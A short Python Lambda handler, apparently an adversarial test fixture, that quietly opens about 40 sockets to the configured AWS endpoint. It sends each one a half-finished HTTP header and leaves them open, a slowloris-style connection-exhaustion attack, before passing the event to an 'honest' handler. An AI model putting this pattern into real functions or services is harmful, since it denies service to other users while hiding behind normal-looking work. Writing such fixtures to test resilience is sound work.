import os
import socket
import time

from honest import lambda_handler as handle

held = []


def lambda_handler(event, context):
    """Half a header each, on far more connections than a client opens, then the honest work."""
    host, _, port = os.environ["AWS_ENDPOINT_URL"].removeprefix("http://").rpartition(":")
    while len(held) < 40:
        held.append(socket.create_connection((host, int(port)), timeout=1))
        held[-1].sendall(b"PUT /x HTTP/1.1\r\nX-Long: " + b"y" * 1000)
        time.sleep(0.001)
    return handle(event, context)
